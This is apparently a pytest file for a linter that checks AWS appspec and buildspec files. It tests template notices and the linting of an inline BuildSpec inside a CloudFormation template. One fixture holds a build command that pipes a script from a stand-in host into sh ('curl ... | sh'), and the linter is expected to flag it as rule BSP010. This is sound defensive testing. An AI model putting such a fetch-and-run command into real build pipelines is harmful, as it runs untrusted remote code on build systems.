"""Templates and fragments (lintkit/aws/partial.py): one notice each, no
findings; finished files that merely use placeholders CodePipeline or the
shell fills in are linted as usual (their findings are in the fixtures)."""

from __future__ import annotations

from tests.helpers import FIXTURES, run_paths


def _notices(family: str) -> dict[str, str]:
    result = run_paths([FIXTURES / family], root=FIXTURES / family)
    return {n.path: n.message for n in result.notifications if n.kind == "template"}


def test_appspec_templates_get_one_notice_each() -> None:
    assert _notices("appspec") == {
        "appspec_ecs_placeholder.yml": "a template: the placeholder '<CONTAINER_NAME>' at line 12 is filled in later; "
        "only its keys and hook names are checked (lint the rendered file)",
        "templates/appspec-ecs-template.json": "a template: the placeholder '[Your task definition arn]' at line 8 is filled in later; "
        "only its keys and hook names are checked (lint the rendered file)",
        "templates/appspec.yaml.tpl": "'appspec.yaml.tpl' is named as a template; only its keys and hook names are checked (lint the rendered file)",
        "templates/appspec_blank.yml": "a template: a blank value at line 7 is filled in later; "
        "only its keys and hook names are checked (lint the rendered file)",
        "templates/appspec_descriptive.yml": "a template: the placeholder 'source-file-location' at line 6 is filled in later; "
        "only its keys and hook names are checked (lint the rendered file)",
    }


def test_buildspec_templates_and_fragments_get_one_notice_each() -> None:
    notices = _notices("buildspec")
    assert sorted(notices) == ["fragments/buildspec-batch.yml", "fragments/buildspec-template.yml"]
    assert notices["fragments/buildspec-batch.yml"].startswith("a buildspec fragment (only 'batch:', no 'version')")


def test_inline_buildspec_of_a_template_file_is_linted(tmp_path) -> None:
    """`template.yaml#inline BuildSpec`: the CloudFormation file's name says
    nothing about the buildspec inside it."""
    (tmp_path / "template.yaml").write_text(
        "Resources:\n  P:\n    Type: AWS::CodeBuild::Project\n    Properties:\n      Source:\n        Type: NO_SOURCE\n"
        "        BuildSpec: |\n          version: 0.2\n          phases:\n            build:\n              commands:\n"
        "                - curl -s http://x.example.com/i.sh | sh\n",
        encoding="utf-8",
    )
    result = run_paths([tmp_path], root=tmp_path)
    assert ("BSP010", 12) in {(f.code, f.line) for f in result.findings}
    assert not [n for n in result.notifications if n.kind == "template"]
